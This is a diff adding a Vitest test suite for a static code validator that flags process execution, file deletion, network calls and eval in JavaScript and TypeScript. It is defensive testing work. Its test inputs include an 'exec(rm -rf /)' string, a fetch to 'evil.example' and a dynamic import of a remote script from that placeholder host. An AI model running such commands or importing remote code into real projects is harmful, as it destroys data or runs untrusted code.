@@ -0,0 +1,113 @@
+import { describe, expect, it } from 'vitest';
+import { validateCode } from './code-validator';
+
+async function operations(code: string, language: 'javascript' | 'typescript' = 'javascript') {
+  const { dangerousOperations } = await validateCode(code, 'moderate', language);
+
+  return dangerousOperations.map((op) => `${op.category}:${op.operation}`);
+}
+
+describe('validateCode', async () => {
+  it('should follow aliased and destructured requires', async () => {
+    const code = [
+      "const { exec: run } = require('child_process');",
+      "const fs = require('node:fs');",
+      'const write = fs.promises.writeFile;',
+      "run('ls');",
+      "write('out.txt', 'data');",
+    ].join('\n');
+
+    expect(await operations(code)).toEqual(['PROCESS_EXEC:child_process.exec', 'FILE_WRITE:fs.writeFile']);
+  });
+
+  it('should follow imports and dynamic imports', async () => {
+    const code = [
+      "import * as cp from 'child_process';",
+      "import { rm as remove } from 'fs/promises';",
+      'cp.spawnSync("node");',
+      'await remove("dist", { recursive: true });',
+      "const { get } = await import('https');",
+      "get('https://example.com');",
+    ].join('\n');
+
+    expect(await operations(code, 'typescript')).toEqual([
+      'PROCESS_EXEC:child_process.spawnSync',
+      'FILE_DELETE:fs.rm',
+      'NETWORK:https.get',
+    ]);
+  });
+
+  it('should not flag timers given a callback or shadowed globals', async () => {
+    const code = [
+      'setTimeout(() => console.log("done"), 100);',
+      'function fetch(url) { return url; }',
+      'fetch("/local");',
+      'const text = "exec(rm -rf /)";',
+    ].join('\n');
+
+    const result = await validateCode(code, 'strict');
+
+    expect(result.dangerousOperations).toEqual([]);
+    expect(result.isValid).toBe(true);
+    expect(result.severity).toBe('safe');
+  });
+
+  it('should only let a declaration shadow a global inside its own scope', async () => {
+    const code = [
+      'function helper(fetch, eval) { return fetch("/local") + eval; }',
+      "fetch('https://evil.example');",
+      'eval("1");',
+      '{ const exec = () => 1; exec(); }',
+      "const exec = require('child_process').exec;",
+      'function run() { const exec = (cmd) => cmd; return exec("ls"); }',
+      'exec("ls");',
+    ].join('\n');
+
+    expect(await operations(code)).toEqual(['NETWORK:fetch', 'EVAL:eval', 'PROCESS_EXEC:child_process.exec']);
+    expect((await validateCode(code)).isValid).toBe(false);
+  });
+
+  it('should flag computed access on the global object and imports from URLs', async () => {
+    const result = await validateCode(
+      "const load = globalThis['req' + 'uire'];\nwindow[name]('1');\nawait import('https://evil.example/x.js');",
+    );
+
+    expect(result.dangerousOperations.map((op) => `${op.category}:${op.operation}`)).toEqual([
+      'EVAL:globalThis[]',
+      'EVAL:window[]',
+      'NETWORK:import',
+    ]);
+    expect(result.isValid).toBe(false);
+  });
+
+  it('should report eval in its aliased and indirect forms with precise ranges', async () => {
+    const result = await validateCode(
+      'const run = globalThis.eval;\nrun("1");\n(0, eval)("2");\nsetTimeout("alert(1)", 10);',
+    );
+
+    expect(result.dangerousOperations.map((op) => [op.operation, op.location])).toEqual([
+      ['eval', { line: 2, column: 0, endLine: 2, endColumn: 8 }],
+      ['eval', { line: 3, column: 0, endLine: 3, endColumn: 14 }],
+      ['setTimeout', { line: 4, column: 0, endLine: 4, endColumn: 26 }],
+    ]);
+    expect(result.isValid).toBe(false);
+    expect(result.severity).toBe('critical');
+  });
+
+  it('should warn about computed module names', async () => {
+    const result = await validateCode('const name = "fs";\nrequire(name);\nrequire.resolve("x");');
+
+    expect(result.dangerousOperations.map((op) => op.operation)).toEqual(['require', 'require.resolve']);
+    expect(result.issues.map((issue) => issue.severity)).toEqual(['warning']);
+  });
+
+  it('should apply the validation level policies', async () => {
+    const network = 'fetch("https://example.com");';
+
+    expect((await validateCode(network, 'strict')).isValid).toBe(false);
+    expect((await validateCode(network, 'moderate')).isValid).toBe(true);
+    expect((await validateCode('eval("1")', 'moderate')).isValid).toBe(false);
+    expect((await validateCode('eval("1")', 'permissive')).isValid).toBe(true);
+    expect((await validateCode('const = 1;', 'permissive')).isValid).toBe(false);
+  });
+});